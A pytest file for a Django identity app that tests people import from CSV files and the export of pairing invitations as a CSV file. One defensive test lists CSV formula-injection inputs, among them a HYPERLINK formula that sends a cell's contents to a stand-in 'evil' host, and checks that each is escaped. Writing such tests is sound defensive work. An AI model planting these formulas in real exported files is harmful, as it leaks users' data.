"""People from a file and invitations into one: all or none, once, and no formulas."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from identity import operators
from identity.flows import pair_in_chat
from identity.models import AuditEvent, BotProfile, Pairing, UnifiedUser
from identity.operators import NewPerson
from identity.pairing import requests as pairing_requests
from identity.pairing.secrets import secrets_of
from identity.web import csv_files
from tests.identity.operator_pages import account, linked, operator, person, spelled, url

pytestmark = pytest.mark.django_db


@pytest.fixture
def carol() -> Client:
    return operator("import_people", "invite_people", "view_unifieduser")


def upload(client: Client, text: str | bytes) -> str:
    data = text.encode() if isinstance(text, str) else text
    answer = client.post(url("unifieduser_import"), {"file": SimpleUploadedFile("people.csv", data)})
    assert answer.status_code == 200
    return html.unescape(answer.content.decode())


def confirm(client: Client, page: str) -> str:
    """Press the button under a preview."""
    [content] = re.findall(r'<textarea name="content" hidden>\n(.*?)</textarea>', page, re.DOTALL)
    return client.post(url("unifieduser_import"), {"content": content}, follow=True).content.decode()


# --- Import


def test_it_shows_what_is_in_a_file_before_it_takes_it_over(carol: Client) -> None:
    person("bob", display_name="Robert")

    page = upload(carol, "unified_user_id,display_name\nalice,Alice B.\nbob,Bob\n")
    assert "1 person will be added" in page
    assert "stay unchanged: bob" in page
    assert UnifiedUser.objects.count() == 1

    assert "1 person was added" in confirm(carol, page)
    assert dict(UnifiedUser.objects.values_list("unified_user_id", "display_name")) == {
        "alice": "Alice B.",
        "bob": "Robert",
    }
    log = AuditEvent.objects.values_list("kind", "actor", "unified_user_id")
    assert list(log) == [("person_imported", "carol", "alice"), ("people_imported", "carol", "")]


@pytest.mark.parametrize(
    "text",
    [
        "\ufeffunified_user_id;display_name\r\nalice;Ünal, Alice\r\n",
        'unified_user_id,display_name\nalice,"Ünal, Alice"',
        "Unified_User_ID\tdisplay_name\n\nalice\tÜnal, Alice\n\n",
    ],
)
def test_it_reads_what_spreadsheet_programs_write(text: str) -> None:
    table = csv_files.read_people(text.encode())

    assert table.problems == []
    assert table.people == [NewPerson("alice", "Ünal, Alice")]


def test_it_names_what_is_wrong_by_line_and_takes_nothing_over(carol: Client) -> None:
    page = upload(
        carol,
        'unified_user_id,display_name\nalice,Alice\nb:c,Bad\n\nalice,Again\ndora\n"erin","two\nlines"\nfay,Fay\n',
    )

    problems = re.findall(r"<li>(Line .*?)</li>", page, re.DOTALL)
    assert [problem.split(":")[0] for problem in problems] == ["Line 3", "Line 5", "Line 6", "Line 7"]
    assert "'alice' is in the file twice" in page
    assert 'name="content"' not in page
    content = "unified_user_id\nalice\nb:c\n"
    assert "Line 3" in carol.post(url("unifieduser_import"), {"content": content}).content.decode()
    assert not UnifiedUser.objects.exists()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "first line"),
        (b"name\nalice\n", "first line"),
        (b"unified_user_id\n", "no people"),
        ("unified_user_id\nJos\xe9".encode("latin-1"), "UTF-8"),
        (b"unified_user_id\n" + b"x" * 600_000, "too large"),
        (b'unified_user_id\n"alice', "n't valid CSV"),
        (b"unified_user_id\nali\0ce\n", "no unified user id"),
        (
            b"unified_user_id\n" + b"".join(b"p%d\n" % number for number in range(501)),
            "501 people are too many: at most 500",
        ),
    ],
)
def test_it_says_what_is_wrong_with_a_file(data: bytes, words: str) -> None:
    table = csv_files.read_people(data)

    assert words in "\n".join(map(str, table.problems))


def test_it_imports_any_number_in_as_many_queries() -> None:
    def count(names: list[str]) -> int:
        with CaptureQueriesContext(connection) as queries:
            operators.import_people(people=[NewPerson(name, "") for name in names], operator="carol")
        return len(queries)

    few = count(["a1", "a2"])

    assert count([f"b{number}" for number in range(500)]) <= few + 6  # SQLite takes so many rows at once


def test_it_adds_nobody_when_one_cannot_be_added() -> None:
    with pytest.raises(ValueError, match="the same ID"):
        operators.import_people(people=[NewPerson("alice", ""), NewPerson("alice", "")], operator="carol")
    with pytest.raises(ValueError, match="no unified user id"):
        operators.import_people(people=[NewPerson("alice", ""), NewPerson("b:c", "")], operator="carol")
    people = [NewPerson(f"p{number}", "") for number in range(501)]
    with pytest.raises(ValueError, match="at most 500"):
        operators.import_people(people=people, operator="carol")

    assert not UnifiedUser.objects.exists()
    assert not AuditEvent.objects.exists()


# --- Invite


def invite(client: Client, *people: UnifiedUser) -> list[dict[str, str]]:
    chosen = {"action": "invite_selected", "_selected_action": [str(one.pk) for one in people]}
    answer = client.post(url("unifieduser_changelist"), chosen)
    assert answer["Content-Disposition"] == 'attachment; filename="invitations.csv"'
    assert "no-store" in answer["Cache-Control"]
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def test_it_gives_an_invitation_for_each_in_one_file(carol: Client) -> None:
    BotProfile.objects.create(platform="telegram", url="https://t.me/OurBot")
    people = [person("bob", display_name="Bob"), person("alice"), linked("carol", "slack").user]

    rows = invite(carol, *people)

    assert [row["unified_user_id"] for row in rows] == ["alice", "bob", "carol"]
    for row in rows:
        request = Pairing.objects.get(person__unified_user_id=row["unified_user_id"])
        assert row["code"] == spelled(request)[1]
        assert row["deep_link"] == f"https://t.me/OurBot?start={secrets_of(request).token}"
        assert row["expires_at"] == request.expires_at.isoformat()
        assert secrets_of(request).number not in str(row)
    assert AuditEvent.objects.filter(kind="pairing_invited", actor="carol").count() == 3
    alice = Pairing.objects.get(person__unified_user_id="alice")
    assert pair_in_chat.claim(account=account(), secret=secrets_of(alice).code) == pairing_requests.Outcome.CLAIMED


def test_it_invites_at_most_500(carol: Client) -> None:
    UnifiedUser.objects.bulk_create(UnifiedUser(unified_user_id=f"p{number}") for number in range(501))
    chosen = {"action": "invite_selected", "_selected_action": ["1"], "select_across": "1", "index": "0"}

    answer = carol.post(url("unifieduser_changelist"), chosen, follow=True)

    assert "at most 500" in answer.content.decode()
    assert not Pairing.objects.exists()


def test_it_gives_no_spreadsheet_a_formula(carol: Client) -> None:
    evil = ['=HYPERLINK("http://evil/?"&C2,"x")', "+1", "-1", "@sum(1)", " =1", "\uff1d1"]
    people = [person(f"p{number}", display_name=name) for number, name in enumerate(evil)]

    rows = invite(carol, *people)

    assert [row["display_name"] for row in rows] == [f"'{name}" for name in evil]
    assert csv_files.write(["a"], [["=1"]]) == '\ufeff"a"\r\n"\'=1"\r\n'
